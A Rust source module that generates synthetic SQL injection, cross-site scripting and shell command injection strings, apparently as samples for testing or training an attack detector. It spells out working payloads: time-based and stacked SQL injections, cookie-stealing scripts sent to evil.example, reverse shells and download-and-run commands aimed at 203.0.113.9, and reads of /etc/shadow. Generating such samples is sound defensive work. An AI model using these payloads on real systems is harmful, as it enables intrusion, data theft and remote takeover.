//! Grammars of the three richest classes: SQL, scripts, commands.

use super::benign_text::word;
use crate::rng::Rng;

/// SQL in a value.
pub(crate) fn sql(rng: &mut Rng) -> String {
    let start = rng.pick(&["1", "", "-1", "x", "admin", "12", "foo", "0", "a@b.c", "9999999"]);
    let quote = rng.pick(&["'", "'", "\"", "", ")", "')", "'))", "\")", "`", "%27", "\\'"]);
    let end = rng.pick(&["", "-- ", "--", "#", "-- -", "/*", ";--", "--+", " -- x", "%00", "'"]);
    let body = match rng.below(14) {
        0..=2 => boolean(rng),
        3 | 4 => union(rng),
        5 => delay(rng),
        6 => format!("; {}", stacked(rng)),
        7 => format!(" and {}", error_based(rng)),
        8 => format!(" {} by {}", rng.pick(&["order", "group"]), rng.between(1, 40)),
        9 => format!(
            " {} (select {} from {} {}) {}",
            rng.pick(&["and", "or"]),
            rng.pick(&["count(*)", "1", "password", "user()", "ascii(substr(user,1,1))"]),
            rng.pick(&["users", "dual", "information_schema.tables", "sysobjects", "mysql.user"]),
            rng.pick(&["", "limit 1", "where 1=1"]),
            rng.pick(&["> 0", "=1", "is not null"])
        ),
        10 => return query(rng),
        11 => return error_based(rng),
        12 => String::new(),
        _ => format!(" {} {}", rng.pick(&["and", "or", "xor", "&&", "||"]), function(rng)),
    };
    if body.is_empty() {
        return format!(
            "{start}{}{}",
            rng.pick(&["'", "\"", "')", "';", "'#", "\")"]),
            rng.pick(&["--", "-- ", "#", " or ''='", "/*"])
        );
    }
    blanks(&format!("{start}{quote}{body}{end}"), rng)
}

/// Blanks as evasions write them.
fn blanks(value: &str, rng: &mut Rng) -> String {
    match rng.below(12) {
        0 => value.replace(' ', "/**/"),
        1 => value.replace(' ', "+"),
        2 => value.replace(' ', "%09"),
        3 => value.replace(' ', "%0a"),
        4 => value.replace(' ', "  "),
        5 => value.replace("select", "/*!50000select*/").replace("union", "/*!union*/"),
        _ => value.to_owned(),
    }
}

fn boolean(rng: &mut Rng) -> String {
    let (a, b) = (rng.below(9999).to_string(), rng.below(9999).to_string());
    let operator = rng.pick(&["or", "and", "OR", "AND", "||", "&&", "or not", "xor", "div"]);
    match rng.below(8) {
        0 | 1 => format!(" {operator} {a}={a}"),
        2 => format!(" {operator} {a}={b}"),
        3 => format!(" {operator} '{a}'='{a}"),
        4 => format!(" {operator} '{}' like '{}", word(rng), rng.pick(&["%", "a%", "x"])),
        5 => format!(" {operator} {a} {} {b}", rng.pick(&["<", ">", "<>", "!=", ">=", "between 1 and"])),
        6 => format!("{operator}'{a}'='{a}'"),
        _ => format!(
            " {operator} {}",
            rng.pick(&["true", "1", "1 is not null", "exists(select 1)", "not false", "1 in (1)", "2>1"])
        ),
    }
}

fn union(rng: &mut Rng) -> String {
    let count = rng.between(1, 20);
    let columns: Vec<String> = (0..count)
        .map(|at| match rng.below(8) {
            0 => rng
                .pick(&[
                    "version()",
                    "user()",
                    "database()",
                    "@@version",
                    "char(58,58)",
                    "concat(0x7e,user(),0x7e)",
                    "group_concat(table_name)",
                    "md5(999)",
                    "load_file('/etc/passwd')",
                    "password",
                    "email",
                ])
                .to_owned(),
            1 => "null".to_owned(),
            _ => (at + 1).to_string(),
        })
        .collect();
    let from = match rng.below(4) {
        0 => format!(
            " from {}",
            rng.pick(&[
                "users",
                "information_schema.tables",
                "information_schema.columns where table_name=0x7573657273",
                "dual",
                "admin",
                "wp_users",
                "sqlite_master",
                "pg_user",
                "all_tables"
            ])
        ),
        _ => String::new(),
    };
    format!(" union {}select {}{from}", rng.pick(&["", "all ", "distinct "]), columns.join(","))
}

fn delay(rng: &mut Rng) -> String {
    let seconds = rng.between(1, 20);
    match rng.below(8) {
        0 => format!(" and sleep({seconds})"),
        1 => format!("; waitfor delay '0:0:{seconds}'"),
        2 => format!(" or pg_sleep({seconds})"),
        3 => format!(" and (select * from (select(sleep({seconds})))a)"),
        4 => format!(" and benchmark({seconds}000000,md5(1))"),
        5 => format!("||dbms_pipe.receive_message('a',{seconds})||"),
        6 => format!(";select pg_sleep({seconds})"),
        _ => format!(" and if({}={},sleep({seconds}),0)", seconds, rng.below(20)),
    }
}

fn stacked(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => format!("drop table {}", rng.pick(&["users", "members", "accounts"])),
        1 => format!("insert into {} values ({},'x','y')", rng.pick(&["users", "admins"]), rng.below(99)),
        2 => format!("update users set password='{}' where id={}", word(rng), rng.below(99)),
        3 => "exec master..xp_cmdshell 'ping 203.0.113.9'".to_owned(),
        4 => format!("declare @q varchar(99);set @q='{}';exec(@q)", word(rng)),
        _ => "shutdown".to_owned(),
    }
}

fn error_based(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => "extractvalue(1,concat(0x7e,version()))".to_owned(),
        1 => "updatexml(1,concat(0x7e,(select user())),1)".to_owned(),
        2 => format!(
            "(select {} from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
            rng.below(99)
        ),
        3 => "1=convert(int,(select @@version))".to_owned(),
        4 => "ctxsys.drithsx.sn(1,(select user from dual))=1".to_owned(),
        _ => format!("(select case when ({}={}) then 1 else 1/0 end)", rng.below(99), rng.below(99)),
    }
}

fn query(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => format!(
            "select {} from {}",
            rng.pick(&["*", "user,password", "version()", "count(*)", "1"]),
            rng.pick(&["users", "information_schema.tables", "mysql.user where 1=1", "dual"])
        ),
        1 => function(rng),
        2 => format!("(select {}({}))", rng.pick(&["sleep", "pg_sleep"]), rng.below(20)),
        _ => format!("{};{}", rng.below(99), stacked(rng)),
    }
}

fn function(rng: &mut Rng) -> String {
    let n = rng.between(1, 30);
    match rng.below(6) {
        0 => format!("ascii(substring((select password from users limit 1),{n},1))>{}", rng.below(128)),
        1 => format!("length(database())={n}"),
        2 => format!("substr(@@version,1,1)={n}"),
        3 => "load_file(0x2f6574632f706173737764)".to_owned(),
        4 => format!("char({},{},{})", 40 + n, 50 + n, 60 + n),
        _ => format!("if(1=1,sleep({n}),1)"),
    }
}

/// Script or markup for a browser.
pub(crate) fn script(rng: &mut Rng) -> String {
    let js = javascript(rng);
    let tag = rng.pick(&[
        "img", "svg", "body", "iframe", "video", "audio", "details", "input", "a", "div", "object", "embed",
        "marquee", "select", "style", "form", "math", "button", "x", "link", "isindex", "textarea", "p",
    ]);
    let event = rng.pick(&[
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onstart",
        "onpointerenter",
        "onanimationstart",
        "onbegin",
        "onkeyup",
        "onwheel",
        "onscroll",
        "onhashchange",
    ]);
    let open = rng.pick(&[
        "",
        "\">",
        "'>",
        "\"",
        "</script>",
        "--><",
        "</title>",
        "</textarea>",
        "]]>",
        "'\"><",
        "\" ",
        "<",
    ]);
    let blank = rng.pick(&[" ", "/", "\t", "\n", "%0a", "%09", "  ", "/ /"]);
    match rng.below(18) {
        0..=2 => format!("{open}<script>{js}</script>"),
        3..=5 => format!(
            "{open}<{tag}{blank}{}{event}={}{js}{}>",
            rng.pick(&["", "src=x ", "src=1 ", "autofocus ", "open "]),
            rng.pick(&["", "\"", "'", "`"]),
            rng.pick(&["", "\"", "'", "`"])
        ),
        6 => format!(
            "<script src={}//{}/x.js></script>",
            rng.pick(&["", "http:", "https:"]),
            rng.pick(&["evil.example", "xss.test", "203.0.113.9"])
        ),
        7 => format!("javascript:{js}"),
        8 => format!("\" {event}=\"{js}"),
        9 => format!("' {event}='{js}"),
        10 => format!("'{}{js}{}'", rng.pick(&["-", ";", "+", ");"]), rng.pick(&["-", "//", "+", ";"])),
        11 => format!(
            "<iframe src=\"{}{js}\">",
            rng.pick(&["javascript:", "data:text/html,<script>", "vbscript:"])
        ),
        12 => format!("<a href=\"java{}script:{js}\">x</a>", rng.pick(&["", "&Tab;", "\n", "&#10;"])),
        13 => format!("<style>@import '//{}';</style>", rng.pick(&["evil.example", "203.0.113.9"])),
        14 => js,
        15 => format!(
            "{}style=animation-name:{} {}={js}{}",
            rng.pick(&["\" ", "' ", "x "]),
            word(rng),
            rng.pick(&["onanimationstart", "onanimationend", "ontransitionend"]),
            rng.pick(&["//", " x=", "\"", ""])
        ),
        16 => format!(
            "{}{}{js}{}{}",
            rng.pick(&["\"", "'", "x\"", "</x>"]),
            rng.pick(&["^", "-", "+", "*", ";", "%2b"]),
            rng.pick(&["^", "-", "+", "*", "//"]),
            rng.pick(&["\"", "'", ""])
        ),
        _ => format!("<{tag} style=\"{}:expression({js})\">", rng.pick(&["x", "width", "xss"])),
    }
}

fn javascript(rng: &mut Rng) -> String {
    let call = rng.pick(&["alert", "prompt", "confirm", "eval", "print", "fetch", "console.log"]);
    let argument = rng.pick(&[
        "1",
        "document.cookie",
        "document.domain",
        "'XSS'",
        "\"xss\"",
        "/xss/",
        "`1`",
        "origin",
        "String.fromCharCode(88,83,83)",
        "location.href",
        "localStorage.token",
        "1337",
    ]);
    match rng.below(10) {
        0..=4 => format!("{call}({argument})"),
        5 => format!("{call}`{}`", rng.below(99)),
        6 => format!(
            "document.location='//evil.example/?c='+{}",
            rng.pick(&["document.cookie", "escape(document.cookie)"])
        ),
        7 => format!("window['{}']({argument})", rng.pick(&["alert", "al'+'ert", "ale\\x72t"])),
        8 => format!("({}=>{call}({argument}))()", rng.pick(&["_", "()", "x"])),
        _ => format!("setTimeout('{call}(1)',{})", rng.below(999)),
    }
}

/// Shell commands in a value.
pub(crate) fn command(rng: &mut Rng) -> String {
    let start = rng.pick(&["", "127.0.0.1", "x", "1", "foo.txt", "a", "test", "8.8.8.8", "en"]);
    let separator = rng.pick(&[
        ";", "|", "||", "&&", "&", "`", "$(", "\n", "%0a", "; ", " | ", " && ", "\";", "';", "'|", "|| ",
    ]);
    let command = shell(rng);
    let end = match separator {
        "`" => "`",
        "$(" => ")",
        _ => rng.pick(&["", "", "", ";", "|", " #", "&", " > /dev/null", "%00", "'", "\""]),
    };
    match rng.below(14) {
        0 => shell_line(rng),
        1 => format!("() {{ :; }}; {}", shell_line(rng)),
        2 => format!("{}{{{}}}{end}", separator, command.replace(' ', ",")),
        3 => format!("{start}{separator}{}{end}", command.replace(' ', "${IFS}")),
        4 => format!("{start}{separator}{}{end}", quoted(&command, rng)),
        _ => format!("{start}{separator}{command}{end}"),
    }
}

fn quoted(command: &str, rng: &mut Rng) -> String {
    let at = rng.between(1, command.len().saturating_sub(1).max(1)).min(2);
    let (head, tail) = command.split_at(at.min(command.len()));
    format!("{head}{}{tail}", rng.pick(&["''", "\"\"", "\\", "$@", "$1"]))
}

fn shell(rng: &mut Rng) -> String {
    if rng.percent(25) {
        // Hosts of all kinds, so that none of them decides.
        let host = format!(
            "{}.{}.{}",
            word(rng),
            rng.chars("abcdefghijklmnopqrstuvwxyz0123456789", 8),
            rng.pick(&["com", "pro", "me", "net", "example", "ru", "io"])
        );
        let tool = rng.pick(&[
            "wget ",
            "curl ",
            "nslookup ",
            "ping ",
            "ping -c 1 ",
            "dig ",
            "wget http://",
            "curl https://",
            "curl -s http://",
            "nc ",
            "/c nslookup ",
            "host ",
        ]);
        return format!("{tool}{host}{}", rng.pick(&["", "", "/", "/x", " 80"]));
    }
    rng.line(
        "id
whoami
ls
ls -la /
cat /etc/passwd
cat /etc/shadow
uname -a
ifconfig
ipconfig /all
netstat -an
dir
dir c:\\
type c:\\windows\\win.ini
ping -c 3 127.0.0.1
ping -n 5 203.0.113.9
nslookup x.oast.pro
curl http://203.0.113.9/x
curl http://x.oast.pro/`whoami`
wget http://203.0.113.9/x.sh -O /tmp/x
wget http://203.0.113.9/bins/mozi.m
sleep 5
echo 123456
expr 1 + 1
nc -e /bin/sh 203.0.113.9 4444
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
sh -c id
/bin/cat /etc/hosts
/usr/bin/id
cmd.exe /c dir
powershell -c whoami
net user
env
ps aux
pwd
touch /tmp/x
rm -rf /tmp/x
chmod 777 /tmp/x
cd /tmp
python -c 'import os'
perl -e 'print 1'
phpinfo
which curl
head /etc/passwd
tail -n 1 /etc/group
set /a 1+1",
    )
    .to_owned()
}

fn shell_line(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => "/bin/bash -c 'cat /etc/passwd'".to_owned(),
        1 => format!("cd /tmp; wget http://203.0.113.{}/x.sh; chmod 777 x.sh; sh x.sh", rng.below(255)),
        2 => format!("echo {} | base64 -d | sh", super::encode::base64(shell(rng).as_bytes())),
        3 => format!("/bin/{}", shell(rng)),
        4 => format!("cmd.exe /c {}", shell(rng)),
        _ => format!(
            "{} | {}",
            shell(rng),
            rng.pick(&["sh", "bash", "nc 203.0.113.9 80", "tee /tmp/x", "grep root"])
        ),
    }
}
